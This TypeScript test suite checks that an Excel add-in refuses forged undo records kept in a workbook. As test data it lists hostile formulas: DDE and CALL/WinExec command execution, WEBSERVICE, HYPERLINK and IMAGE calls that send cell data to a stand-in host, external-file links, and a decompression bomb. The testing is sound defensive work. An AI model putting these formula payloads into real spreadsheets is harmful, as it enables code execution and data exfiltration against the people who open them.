import fc from "fast-check";
import { readRecord } from "../../../src/engine/inverse/record/readRecord";
import { looksOutside } from "../../../src/engine/inverse/record/safeFormula";
import { writeRecord } from "../../../src/engine/inverse/record/writeRecord";
import type { CellRestore, Held, InversePlan, InverseStep } from "../../../src/engine/inverse/steps";
import { KEPT_NAMESPACE, keptPart, recordIn } from "../../../src/opc/keptPart";
import { packText, unpackText } from "../../../src/opc/keptText";

const AT = "2024-03-31T15:20:00.000Z";
const sheet = { name: "Matriz", id: "{1}" };

function planOf(...steps: readonly InverseStep[]): InversePlan {
  return { inverseOf: "Calcular avances 2023", steps };
}

/** As a workbook gives it back. */
function reread(plan: InversePlan): ReturnType<typeof readRecord> {
  const part = keptPart(writeRecord({ at: AT, host: "excel", plan }), AT);
  return part === undefined ? undefined : readRecord(recordIn(part));
}

const cells = (...all: readonly CellRestore[]): InverseStep => ({ step: "restoreCells", sheet, cells: all, merges: [] });
const back = (held: Held): InverseStep => cells({ row: 4, column: 18, left: { formula: "=R5/M5" }, back: held });

const held = fc.oneof(
  // No cell holds a negative zero.
  fc.double({ noNaN: true, noDefaultInfinity: true }).map((value): Held => ({ value: value + 0 })),
  fc.string().map((value): Held => ({ value })),
  fc.boolean().map((value): Held => ({ value })),
  fc.constant<Held>({ value: null }),
  fc.constant<Held>({ value: { error: "#N/A" } }),
  fc
    .constantFrom("=R5/M5*100", '=IF(ISNUMBER(E5),E5/D5,"ND")', "=SUM(Tabla1[Valor])", "='Matriz 2'!B4+PNTP.AVANCE1(B2,C2)")
    .map((formula): Held => ({ value: null, formula })),
);

describe("A step that is kept in the workbook", () => {
  test("comes back as it was written", () => {
    const cell = fc.record({ row: fc.nat(1_000), column: fc.nat(200), left: held, back: held });
    fc.assert(
      fc.property(fc.array(cell, { maxLength: 20 }), (all) => {
        const looked = all.map((each, index) =>
          index % 3 === 0 ? { ...each, look: { left: { bold: true }, back: { bold: false } } } : each,
        );
        expect(reread(planOf(cells(...looked)))?.step.plan).toEqual({
          inverseOf: "Calcular avances 2023",
          steps: [{ step: "restoreCells", sheet, cells: looked.map(withValue), merges: [], anchors: [], bystanders: [] }],
        });
      }),
    );
  });

  test("tells each look once, however many cells share it", () => {
    const look = { left: { fill: "#ffffff", bold: true }, back: { fill: null, bold: false } };
    const all = Array.from({ length: 500 }, (_, row): CellRestore => ({ row, column: 1, look }));
    const record = writeRecord({ at: AT, host: "excel", plan: planOf(cells(...all)) }) as { readonly looks: readonly unknown[] };
    expect(record.looks).toHaveLength(1);
    expect(reread(planOf(cells(...all)))?.step.plan.steps[0]).toMatchObject({
      cells: expect.arrayContaining([{ row: 499, column: 1, look }]),
    });
  });
});

function withValue({ row, column, left, back: former, ...rest }: CellRestore): CellRestore {
  const whole = (each: Held | undefined): Held => ({ value: null, ...each });
  return { row, column, left: whole(left), back: whole(former), ...rest };
}

describe("A record that somebody forged", () => {
  const DANGEROUS = [
    "=cmd|'/C calc'!A0",
    '=DDE("cmd","/C calc","a")',
    "='C:\\datos\\[otro.xlsx]Hoja1'!A1",
    "='https://malo.example/[otro.xlsx]Hoja1'!$A$1",
    "=[1]Hoja1!A1",
    "=[otro.xlsx]!Nombre",
    "=otro.xlsx!Nombre",
    '=WEBSERVICE("https://malo.example/?d="&A1)',
    '=HYPERLINK("https://malo.example/?d="&A1,"Ver informe")',
    '=IF(TRUE,IMAGE("https://malo.example/"&B2),1)',
    '=_xlfn.WEBSERVICE("https://malo.example")',
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=RTD("malo",,A1)',
    "=INDIRECT(\"'[otro.xlsx]Hoja1'!A1\")",
    "=_xll.MALO(A1)",
    '=SUM(1,+WEBSERVICE ("https://malo.example"))',
  ];

  test.each(DANGEROUS)("does not put %s back, and names its cell", (formula) => {
    expect(looksOutside(formula)).toBe(true);
    const read = reread(planOf(back({ formula })));
    const put = read?.step.plan.steps.flatMap((step) => (step.step === "restoreCells" ? step.cells : []));
    expect(read?.withheld).toEqual([{ sheet: "Matriz", row: 4, column: 18 }]);
    expect(put).toEqual([]);
  });

  test.each([
    '=IF(ISNUMBER(E5),ROUND(E5/D5*100,1),"ND")',
    "=SUM(Tabla1[[#This Row],[Valor]])",
    "='Matriz 2023'!B4",
    "=SUM(Ene:Dic!B4)",
    "=PNTP.AVANCE1(B2,C2,D2)",
    '="WEBSERVICE(" & "cmd|x!A0"',
    "=_xlfn.IFS(A1>1,2,TRUE,3)",
    "=LOG10(A1)+#REF!",
  ])("puts %s back: it only computes", (formula) => expect(looksOutside(formula)).toBe(false));

  test("is refused whole where a formula is longer than Excel takes", () => {
    const formula = `=${"A1+".repeat(3_000)}A1`;
    expect(looksOutside(formula)).toBe(true);
    expect(reread(planOf(back({ formula })))).toBeUndefined();
  });

  const whole = writeRecord({ at: AT, host: "excel", plan: planOf(back({ value: 0.5 })) }) as Readonly<Record<string, unknown>>;
  const removal = (name: string, owner = "PNTP_Resumen"): InverseStep => {
    return { step: "removeSheet", sheet: { name, id: "{9}" }, cells: [], names: [owner], charts: [] };
  };
  const names = (name: string, former: string | null): InverseStep => ({
    step: "restoreNames",
    names: [{ name, left: null, back: former }],
  });
  const bands = (band: Readonly<Record<string, unknown>>): InverseStep => ({ step: "restoreBands", sheet, areas: [], back: [band] });

  test.each<[string, unknown]>([
    ["of another form", { ...whole, v: 2 }],
    ["of no host", { ...whole, host: "otro" }],
    ["without a moment", { ...whole, at: "ayer" }],
    ["with an unknown step", { ...whole, steps: [{ s: "runMacro" }] }],
    ["whose cell is outside of a sheet", { ...whole, steps: [{ ...stepOf(whole), cells: [[1_048_576, 0, [1], [2], null]] }] }],
    ["whose look is not told", { ...whole, steps: [{ ...stepOf(whole), cells: [[1, 0, [1], [2], 7]] }] }],
    ["that puts a value where nothing of ours was left", { ...whole, steps: [{ ...stepOf(whole), cells: [[1, 0, 0, [2], null]] }] }],
    [
      "with more cells than we keep",
      { ...whole, steps: [{ ...stepOf(whole), cells: Array.from({ length: 60_001 }, () => [1, 0, [1], [2], null]) }] },
    ],
    ["that is a list", [whole]],
    ["that is nothing", null],
  ])("%s is refused whole", (_, record) => expect(readRecord(record)).toBeUndefined());

  test.each<[string, InverseStep]>([
    ["takes away a sheet that is none of ours", removal("Matriz")],
    ["takes away a sheet under a name of hers", removal("Resumen PNTP", "Mi_Rango")],
    ["sets a name of hers", names("Mi_Rango", "=Matriz!$A$1")],
    ["gives a name a formula that fetches", names("PNTP_Resumen", '=WEBSERVICE("https://malo.example")')],
    ["gives a name cells of another file", names("PNTP_Resumen", "='C:\\[otro.xlsx]Hoja1'!$A$1")],
    ["paints with a rule without our mark", bands({ address: "A1:A9", formula: "=A1>2", fill: "#ffffff", color: "#000000" })],
    [
      "paints with a rule that fetches",
      bands({ address: "A1", formula: '=WEBSERVICE("https://malo.example")+N("PNTP")', fill: "", color: "" }),
    ],
  ])("one that %s is refused whole", (_, step) => {
    expect(reread(planOf(back({ value: 1 })))).toBeDefined();
    expect(reread(planOf(back({ value: 1 }), step))).toBeUndefined();
  });

  test("a sheet of ours may go, and our names come back", () => {
    const steps = [
      removal("Resumen PNTP (2)"),
      removal("Ficha OP.01"),
      names("PNTP_Resumen", "='Resumen PNTP'!$A$1:$H$40"),
      names("PNTP_Resumen_huella", '="a"&"b"'),
    ];
    expect(reread(planOf(...steps))?.step.plan.steps).toHaveLength(4);
  });

  test("no text that is no part of ours becomes a record, and one that swells is not unpacked", () => {
    fc.assert(fc.property(fc.string(), (text) => recordIn(text) === undefined));
    const bomb = `<deshacer xmlns="${KEPT_NAMESPACE}">${packText(" ".repeat(40 * 2 ** 20))}</deshacer>`;
    expect(bomb.length).toBeLessThan(100_000);
    expect(recordIn(bomb)).toBeUndefined();
    expect(unpackText(packText("año"), 3)).toBeUndefined();
    expect(unpackText(packText("año"), 4)).toBe("año");
  });
});

function stepOf(record: Readonly<Record<string, unknown>>): object {
  return (record["steps"] as readonly object[])[0] ?? {};
}
